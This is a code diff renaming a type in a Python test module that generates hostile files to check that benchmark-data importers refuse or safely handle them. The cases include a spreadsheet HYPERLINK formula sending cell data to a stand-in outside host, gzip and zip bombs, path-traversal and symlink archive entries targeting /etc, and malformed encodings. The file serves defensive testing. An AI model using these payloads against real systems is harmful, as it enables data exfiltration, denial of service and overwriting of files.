@@ -14,7 +14,7 @@ from dataclasses import dataclass
 from functools import cache
 from typing import Any, BinaryIO, cast
 
-from bench.hostile_doors import Door, encoded, header, placed, plain
+from bench.hostile_importers import Importer, encoded, header, placed, plain
 
 MARK = "@@HERE@@"
 FORMULA = '=HYPERLINK("http://outside.example/?"&A1,"open")'
@@ -83,7 +83,7 @@ def made(make: Callable[[], Iterator[bytes]]) -> BinaryIO:
     return cast(BinaryIO, io.BufferedReader(Pieces(make), 1 << 16))
 
 
-def second(importer: Door, raw: bytes, path: tuple[Any, ...], *, quoted: bool = False) -> bytes:
+def second(importer: Importer, raw: bytes, path: tuple[Any, ...], *, quoted: bool = False) -> bytes:
     """A sound row, then one with ``raw`` bytes at ``path``: instead of the whole JSON value, or within its quotes."""
     bad = encoded(importer, placed(importer.row(1), path, MARK))
     mark = MARK.encode() if quoted or importer.columns else f'"{MARK}"'.encode()
@@ -110,32 +110,32 @@ class Sent:
     field: bool = False
 
 
-Maker = Callable[[Door, bool], Sent | None]
+Maker = Callable[[Importer, bool], Sent | None]
 
 
-def _bad_line(importer: Door) -> int:
+def _bad_line(importer: Importer) -> int:
     return 3 if importer.columns else 2
 
 
-def nested_brackets(importer: Door, full: bool) -> Sent | None:
+def nested_brackets(importer: Importer, full: bool) -> Sent | None:
     raw = b"[" * 100_000
     if importer.columns:  # a text like any other
         return Sent(bytes_file(second(importer, raw[:5_000], importer.text)), IMPORTED)
     return Sent(bytes_file(second(importer, raw, importer.text)), REFUSED, 2, True)
 
 
-def nul(importer: Door, full: bool) -> Sent | None:
+def nul(importer: Importer, full: bool) -> Sent | None:
     raw = b"a\x00b" if importer.columns else rb"a\u0000b"
     return Sent(bytes_file(second(importer, raw, importer.text, quoted=True)), REFUSED, _bad_line(importer), True)
 
 
-def lone_surrogate(importer: Door, full: bool) -> Sent | None:
+def lone_surrogate(importer: Importer, full: bool) -> Sent | None:
     raw = b"\xed\xa0\xbd" if importer.columns else rb"\ud83d"
     return Sent(bytes_file(second(importer, raw, importer.text, quoted=True)), REFUSED, _bad_line(importer), True)
 
 
 def _number(raw: bytes) -> Maker:
-    def make(importer: Door, full: bool) -> Sent | None:
+    def make(importer: Importer, full: bool) -> Sent | None:
         if not importer.number:
             return None
         return Sent(bytes_file(second(importer, raw, importer.number)), REFUSED, _bad_line(importer), True)
@@ -143,7 +143,7 @@ def _number(raw: bytes) -> Maker:
     return make
 
 
-def duplicate_keys(importer: Door, full: bool) -> Sent | None:
+def duplicate_keys(importer: Importer, full: bool) -> Sent | None:
     if importer.columns:
         return Sent(bytes_file(header(importer).replace(b"\n", f",{importer.columns[0]}\n".encode())), REFUSED, 1, True)
     twice = f'{{"{next(iter(importer.row(1)))}": "x", '.encode()
@@ -151,7 +151,7 @@ def duplicate_keys(importer: Door, full: bool) -> Sent | None:
     return Sent(bytes_file(encoded(importer, importer.row(0)) + bad), REFUSED, 2, True)
 
 
-def duplicate_ids(importer: Door, full: bool) -> Sent | None:
+def duplicate_ids(importer: Importer, full: bool) -> Sent | None:
     if not importer.once:
         return None
     return Sent(
@@ -162,32 +162,32 @@ def duplicate_ids(importer: Door, full: bool) -> Sent | None:
     )
 
 
-def twin_ids(importer: Door, full: bool) -> Sent | None:
+def twin_ids(importer: Importer, full: bool) -> Sent | None:
     if not importer.key:
         return None
     rows = [placed(importer.row(0), importer.key, name) for name in (NFC, NFD)]
     return Sent(bytes_file(plain(importer, *rows)), REFUSED, None, True)
 
 
-def line_separators(importer: Door, full: bool) -> Sent | None:
+def line_separators(importer: Importer, full: bool) -> Sent | None:
     row = placed(importer.row(0), importer.text, "One\u2028line\u2029with\x85marks\x0b\x0c.")
     return Sent(bytes_file(plain(importer, row)), IMPORTED)
 
 
-def byte_order_mark(importer: Door, full: bool) -> Sent | None:
+def byte_order_mark(importer: Importer, full: bool) -> Sent | None:
     data = b"\xef\xbb\xbf" + plain(importer, importer.row(0))
     return Sent(bytes_file(data), IMPORTED) if importer.columns else Sent(bytes_file(data), REFUSED, 1)
 
 
-def utf_16(importer: Door, full: bool) -> Sent | None:
+def utf_16(importer: Importer, full: bool) -> Sent | None:
     return Sent(bytes_file(plain(importer, importer.row(0)).decode().encode("utf-16")), REFUSED, 1)
 
 
-def crlf(importer: Door, full: bool) -> Sent | None:
+def crlf(importer: Importer, full: bool) -> Sent | None:
     return Sent(bytes_file(plain(importer, importer.row(0), importer.row(1), end="\r\n")), IMPORTED)
 
 
-def long_line(importer: Door, full: bool) -> Sent | None:
+def long_line(importer: Importer, full: bool) -> Sent | None:
     size = (2 << 30) if full else (17 << 20)
     start, _mark, rest = second(importer, MARK.encode(), importer.text, quoted=True).partition(MARK.encode())
 
@@ -209,7 +209,7 @@ def _gzip_bomb(size: int) -> bytes:
     return buffer.getvalue()
 
 
-def gzip_bomb(importer: Door, full: bool) -> Sent | None:
+def gzip_bomb(importer: Importer, full: bool) -> Sent | None:
     return Sent(bytes_file(_gzip_bomb(1024 if full else 8)), REFUSED)
 
 
@@ -236,17 +236,17 @@ def _zip_bomb(size: int) -> bytes:
     return _zipped(WORKBOOK, size, "xl/worksheets/sheet1.xml")
 
 
-def zip_bomb(importer: Door, full: bool) -> Sent | None:
+def zip_bomb(importer: Importer, full: bool) -> Sent | None:
     return Sent(bytes_file(_zip_bomb(1024 if full else 70)), REFUSED)  # MiB; a workbook may unpack to 64
 
 
-def path_traversal(importer: Door, full: bool) -> Sent | None:
+def path_traversal(importer: Importer, full: bool) -> Sent | None:
     data = plain(importer, importer.row(0))
     names = ("../../../../etc/consilium-was-here", "/etc/consilium-was-here")
     return Sent(bytes_file(_zipped(dict.fromkeys(names, data))), REFUSED)
 
 
-def symlinks(importer: Door, full: bool) -> Sent | None:
+def symlinks(importer: Importer, full: bool) -> Sent | None:
     buffer = io.BytesIO()
     with tarfile.open(fileobj=buffer, mode="w") as archive:
         link = tarfile.TarInfo("cases.jsonl")
@@ -255,7 +255,7 @@ def symlinks(importer: Door, full: bool) -> Sent | None:
     return Sent(bytes_file(buffer.getvalue()), REFUSED)
 
 
-def empty_rubric(importer: Door, full: bool) -> Sent | None:
+def empty_rubric(importer: Importer, full: bool) -> Sent | None:
     if not importer.criteria:
         return Sent(bytes_file(b""), REFUSED)
     empty: Any = [] if importer.criteria == ("rubrics",) else ""
@@ -263,13 +263,13 @@ def empty_rubric(importer: Door, full: bool) -> Sent | None:
     return Sent(bytes_file(plain(importer, *rows)), REFUSED, _bad_line(importer), True)
 
 
-def only_negative(importer: Door, full: bool) -> Sent | None:
+def only_negative(importer: Importer, full: bool) -> Sent | None:
     if importer.name != "healthbench":
         return None
     return Sent(bytes_file(plain(importer, placed(importer.row(0), importer.number, -5))), IMPORTED)
 
 
-def million_lines(importer: Door, full: bool) -> Sent | None:
+def million_lines(importer: Importer, full: bool) -> Sent | None:
     lines = MANY_LINES if full else 600
 
     def pieces() -> Iterator[bytes]:
@@ -284,20 +284,20 @@ def million_lines(importer: Door, full: bool) -> Sent | None:
 
 
 def _texts(value: str) -> Maker:
-    def make(importer: Door, full: bool) -> Sent | None:
+    def make(importer: Importer, full: bool) -> Sent | None:
         return Sent(bytes_file(plain(importer, placed(importer.row(0), importer.text, value))), IMPORTED)
 
     return make
 
 
-def formulas(importer: Door, full: bool) -> Sent | None:
+def formulas(importer: Importer, full: bool) -> Sent | None:
     row = placed(importer.row(0), importer.text, FORMULA)
     for number, path in enumerate(importer.texts):
         row = placed(row, path, f"{FORMULA}&{number}")
     return Sent(bytes_file(plain(importer, row)), IMPORTED)
 
 
-def privileged_keys(importer: Door, full: bool) -> Sent | None:
+def privileged_keys(importer: Importer, full: bool) -> Sent | None:
     row = {**importer.row(0), **PRIVILEGED}
     return Sent(bytes_file(plain(importer, row)), *((REFUSED, None, True) if importer.strict else (EITHER,)))
 
